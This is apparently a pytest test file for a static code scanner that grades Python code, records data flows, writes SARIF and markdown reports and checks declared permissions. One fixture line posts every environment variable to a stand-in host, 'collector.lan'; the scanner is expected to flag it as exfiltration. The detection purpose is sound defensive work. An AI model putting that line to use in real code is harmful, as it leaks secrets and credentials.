"""The report: a score with reasons, fingerprints that stay, and the forms of others."""

from __future__ import annotations

import json
from typing import Any

import pytest

from heimnetz_git.model.permission import FilePermissions, NetworkPermissions, Permissions
from heimnetz_git.scan.capabilities import Kind
from heimnetz_git.scan.engine import scan
from heimnetz_git.scan.rules import RULES
from heimnetz_git.scan.rules_permissions import proposed
from heimnetz_git.scan.sarif import markdown, page_of, sarif

BAD = b"import os, requests\nrequests.post('https://collector.lan', json=dict(os.environ))\n"


def test_each_point_has_its_reason() -> None:
    """What is missing to 100 is the sum of the reasons; the number of findings does not count."""
    once, often = scan({"a.py": b"exec(x)\n"}), scan({"a.py": b"exec(x)\n" * 50})
    assert once.score == often.score == 100 - sum(it.points for it in once.reasons)
    assert scan({"a.py": b"x = 1\n"}).score == 100
    assert scan({"a.py": BAD}).grade == "E"
    assert scan({"a.py": BAD}).recommendations


def test_fingerprints_stay_when_lines_move() -> None:
    """And two of a kind have two."""
    before = scan({"a.py": BAD})
    after = scan({"a.py": b"# moved\n\n" + BAD})
    assert [it.fingerprint for it in before.findings] == [it.fingerprint for it in after.findings]
    twice = scan({"a.py": b"exec(x)\nexec(x)\n"})
    assert len({it.fingerprint for it in twice.findings}) == 2


def test_a_flow_shows_its_way() -> None:
    """From where it is read to where it is sent."""
    trail = scan({"a.py": BAD}).findings[0].trail
    assert [(step.words, step.location.line) for step in trail] == [
        ("os.environ", 2),
        ("requests.post() sends it", 2),
    ]


def test_sarif_has_what_code_hosts_read() -> None:
    """All rules, levels, places from 1, fingerprints, flows, tags, score and verdict."""
    log: Any = json.loads(json.dumps(sarif(scan({"pkg/a b.py": BAD}), root="src")))
    (run,) = log["runs"]
    (result,) = run["results"]
    rules = run["tool"]["driver"]["rules"]
    assert log["version"] == "2.1.0"
    assert len(rules) == len(RULES)
    assert rules[result["ruleIndex"]]["id"] == result["ruleId"] == "exfiltration"
    assert "external/mitre-attack/T1041" in rules[result["ruleIndex"]]["properties"]["tags"]
    place = result["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "src/pkg/a%20b.py"
    assert place["region"] == {"startLine": 2, "startColumn": 1}
    assert result["partialFingerprints"]
    assert len(result["codeFlows"][0]["threadFlows"][0]["locations"]) == 2
    assert result["properties"]["capability"] == "network.connect"
    assert (run["properties"]["verdict"], run["properties"]["score"]) == ("reject", 39)


def test_the_document_has_the_rows_that_programs_read() -> None:
    """File, line, rule, severity and capability of each finding; score and verdict."""
    document = scan({"a.py": BAD}).document()
    row = document["findings"][0]
    assert (row["file"], row["line"], row["rule"]) == ("a.py", 2, "exfiltration")
    assert (row["severity"], row["capability"]) == ("high", "network.connect")
    assert (document["score"], document["verdict"]) == (39, "reject")


def test_markdown_keeps_foreign_text_in_its_cell() -> None:
    """A file's name cannot write into a request."""
    text = markdown(scan({"a|<b>.py": b"def f(:\n"}), "x | y")
    assert "<b>" not in text
    assert "x | y" not in text


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_every_rule_has_a_page(rule: Any) -> None:
    """A first sentence and a text."""
    page = page_of(rule)
    assert page.summary.endswith((".", ")")) or ":" in page.summary
    assert page.text


GRANTS = [
    ("urlopen('https://api.example.org/x')", ("api.example.org:443",), True),
    ("urlopen('https://api.example.org/x')", ("api.example.org:80",), False),
    ("urlopen('https://api.example.org/x')", ("lan:*",), False),
    ("urlopen('http://192.168.1.1/x')", ("lan:80",), True),
    ("urlopen(f'http://{host}/x')", ("lan:80",), True),
]


@pytest.mark.parametrize(("call", "connect", "covered"), GRANTS)
def test_a_host_is_held_to_the_hosts_that_were_granted(
    call: str, connect: tuple[str, ...], covered: bool
) -> None:
    """By name and port; what is not known is taken to be meant."""
    code = f"from urllib.request import urlopen\n{call}\n".encode()
    permissions = Permissions(network=NetworkPermissions(connect=connect))
    said = [it.rule for it in scan({"a.py": code}, permissions).findings]
    assert ("permission-undeclared" not in said) is covered


def test_a_file_opened_by_a_parameter_uses_the_grant() -> None:
    """``path.open()`` of an annotated parameter reads; nothing is said to be unused."""
    code = (
        b"from pathlib import Path\n"
        b"def read(path: Path):\n    with path.open() as f:\n        return f\n"
    )
    report = scan({"a.py": code}, Permissions(files=FilePermissions(read=("/var/lib/misc",))))
    assert report.findings == ()
    assert [it.kind for it in report.capabilities] == [Kind.READ]


def test_a_release_that_asks_for_more_says_so() -> None:
    """Held against the release before."""
    old = Permissions(files=FilePermissions(read=("/var/lib/misc",)))
    new = Permissions(files=FilePermissions(read=("/var/lib/misc",)), run=("/usr/bin/ip",))
    report = scan({"a.py": b"x = open('/var/lib/misc/a')\n"}, new, before=old)
    assert "permission-grew" in {it.rule for it in report.findings}


def test_the_least_permissions_are_proposed() -> None:
    """What the code is known to do, and no more."""
    code = (
        b"import os, subprocess\nsubprocess.run(['/usr/sbin/ip'])\n"
        b"os.getenv('TZ')\nopen('/etc/hosts')\n"
    )
    least = proposed(scan({"a.py": code}).capabilities)
    assert (least.run, least.env, least.files.read) == (("/usr/sbin/ip",), ("TZ",), ("/etc/hosts",))
